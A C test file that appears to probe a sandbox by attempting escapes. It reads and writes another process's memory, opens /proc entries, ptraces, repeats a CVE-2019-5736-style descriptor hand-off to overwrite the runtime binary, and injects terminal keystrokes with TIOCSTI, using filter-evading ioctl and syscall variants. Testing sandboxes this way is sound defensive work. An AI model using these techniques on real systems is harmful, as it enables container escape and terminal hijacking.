/* attacks: what a hostile command tries. "won" in a line means that the attempt succeeded. */
#include "../../include/foreign_call.h"
#include "inside.h"
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/uio.h>

static int verdict(const char *what, int won)
{
	printf("%s %s %s\n", what, won ? "won" : "lost", won ? "" : strerror(errno));
	return won;
}

/* secret: a victim: prints its pid and where its secret lies, keeps fd 3 open, waits. */
int secret(int argc, char **argv)
{
	static volatile char word[] = "postern-secret";

	prctl(PR_SET_PDEATHSIG, SIGKILL);
	if (dup2(0, 3) != 3)
		return 1;
	printf("%d %llx\n", (int)getpid(), (unsigned long long)(uintptr_t)word);
	fflush(stdout);
	return stay_until(argc > 1 ? (unsigned)atoi(argv[1]) : 10);
}

/* attack PID ADDRESS: all ways into another process of the same uid. Status 1 if one worked. */
int attack_process(int argc, char **argv)
{
	pid_t pid = argc > 1 ? (pid_t)atoi(argv[1]) : 0;
	void *addr = (void *)(uintptr_t)(argc > 2 ? strtoull(argv[2], NULL, 16) : 0);
	char path[64], buf[16] = "";
	struct iovec local = {buf, 8}, remote = {addr, 8};
	int won = 0, fd, pidfd;

	pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	won |= verdict("pidfd_getfd", pidfd >= 0 && syscall(SYS_pidfd_getfd, pidfd, 3, 0) >= 0);
	won |= verdict("process_vm_readv", process_vm_readv(pid, &local, 1, &remote, 1, 0) == 8);
	won |= verdict("process_vm_writev", process_vm_writev(pid, &local, 1, &remote, 1, 0) == 8);
	snprintf(path, sizeof(path), "/proc/%d/mem", (int)pid);
	fd = open(path, O_RDWR);
	won |= verdict("mem", fd >= 0 && pread(fd, buf, 8, (off_t)(uintptr_t)addr) == 8);
	snprintf(path, sizeof(path), "/proc/%d/root/etc", (int)pid);
	won |= verdict("root", open(path, O_RDONLY | O_DIRECTORY) >= 0);
	snprintf(path, sizeof(path), "/proc/%d/cwd/", (int)pid);
	won |= verdict("cwd", open(path, O_RDONLY | O_DIRECTORY) >= 0);
	snprintf(path, sizeof(path), "/proc/%d/fd/3", (int)pid);
	won |= verdict("fd", open(path, O_RDONLY) >= 0);
	snprintf(path, sizeof(path), "/proc/%d/environ", (int)pid);
	fd = open(path, O_RDONLY);
	won |= verdict("environ", fd >= 0 && read(fd, buf, 1) >= 0);
	snprintf(path, sizeof(path), "/proc/%d/ns/mnt", (int)pid);
	fd = open(path, O_RDONLY);
	won |= verdict("setns", fd >= 0 && setns(fd, 0) == 0);
	won |= verdict("ptrace", ptrace(PTRACE_ATTACH, pid, 0, 0) == 0);
	return won ? 1 : 0;
}

static int is_launcher(int pid, char *exe, size_t size)
{
	char path[64], comm[64] = "?";
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	fd = open(path, O_RDONLY);
	n = fd >= 0 ? read(fd, comm, sizeof(comm) - 1) : -1;
	if (fd >= 0)
		close(fd);
	if (n <= 0)
		return 0;
	comm[n] = '\0';
	if (!strncmp(comm, "inside", 6))
		return 0;
	snprintf(exe, size, "/proc/%d/exe", pid);
	return 1;
}

/* exe: opens every visible /proc/N/exe that is not ours for writing. ETXTBSY is a win:
 * permission was granted and only the running process stood in the way. */
int attack_exe(int argc, char **argv)
{
	struct dirent *e;
	char exe[64];
	int won = 0, seen = 0;
	DIR *d = opendir("/proc");

	(void)argc;
	(void)argv;
	while (d && (e = readdir(d))) {
		int fd, ok;

		if (atoi(e->d_name) <= 0 || !is_launcher(atoi(e->d_name), exe, sizeof(exe)))
			continue;
		seen++;
		fd = open(exe, O_WRONLY);
		ok = fd >= 0 || errno == ETXTBSY;
		if (ok)
			verdict(exe, 1);
		won |= ok;
	}
	printf("exe seen %d %s\n", seen, won ? "won" : "lost");
	return won;
}

/*
 * exekeep SOCKET-FD: CVE-2019-5736 in full: takes an O_PATH descriptor of the launcher's file
 * through /proc/1/exe and hands it to a partner over an inherited socket. The partner opens it
 * for writing once no launcher runs.
 */
int attack_exe_late(int argc, char **argv)
{
	int sock = argc > 1 ? atoi(argv[1]) : 3, fd = open("/proc/1/exe", O_PATH);
	char byte = 'x', ctl[CMSG_SPACE(sizeof(int))] = "";
	struct iovec iov = {&byte, 1};
	struct msghdr msg = {.msg_iov = &iov,
			     .msg_iovlen = 1,
			     .msg_control = ctl,
			     .msg_controllen = sizeof(ctl)};
	struct cmsghdr *c = CMSG_FIRSTHDR(&msg);

	if (fd < 0) {
		verdict("O_PATH of /proc/1/exe", 0);
		return 0;
	}
	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(c), &fd, sizeof(fd));
	verdict("sending it", sendmsg(sock, &msg, 0) == 1);
	return 1;
}

#ifdef __x86_64__
/* By the other numbers that the kernel knows this call by; an i386 program has short pointers. */
static int attack_tty_foreign(void)
{
	char *bit = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	int won = 0;

	if (bit == MAP_FAILED)
		return verdict("TIOCSTI-i386", 0);
	*bit = 'i';
	errno = i386_call(54, 0, TIOCSTI, (long)bit, 0);
	won |= verdict("TIOCSTI-i386", errno == 0);
	won |= verdict("TIOCSTI-x32", syscall(514 | X32_BIT, 0L, (long)TIOCSTI, bit) == 0);
	return won;
}
#endif

/* tty: everything that puts bytes into the terminal's input or takes the terminal over. */
int attack_tty(int argc, char **argv)
{
	/* The kernel looks at the low 32 bits of the request only; filters have looked at all 64. */
	unsigned long wide = (unsigned long)0xdeadbeefULL << 32 | TIOCSTI;
	char shift[] = {6}; /* TIOCL_GETSHIFTSTATE: gated like all, but not by CAP_SYS_ADMIN too */
	char paste[] = {3}; /* TIOCL_PASTESEL: types what is selected */
	char bit = 'i';
	int won = 0, ctty;

	(void)argc;
	(void)argv;
	won |= verdict("TIOCSTI", ioctl(0, TIOCSTI, &bit) == 0);
	won |= verdict("TIOCSTI-64", syscall(SYS_ioctl, 0UL, wide, &bit) == 0);
#ifdef __x86_64__
	won |= attack_tty_foreign();
#endif
	won |= verdict("TIOCLINUX", ioctl(0, TIOCLINUX, shift) >= 0);
	shift[0] = 6; /* where the answer was put */
	won |= verdict("TIOCLINUX-64",
		       syscall(SYS_ioctl, 0UL, wide - TIOCSTI + TIOCLINUX, shift) >= 0);
	won |= verdict("TIOCLINUX paste", ioctl(0, TIOCLINUX, paste) >= 0);
	ctty = open("/dev/tty", O_RDWR);
	won |= verdict("/dev/tty", ctty >= 0);
	setsid();
	won |= verdict("TIOCSCTTY", ioctl(0, TIOCSCTTY, 1) == 0);
	won |= verdict("TIOCSTI again", ioctl(0, TIOCSTI, &bit) == 0);
	return won;
}
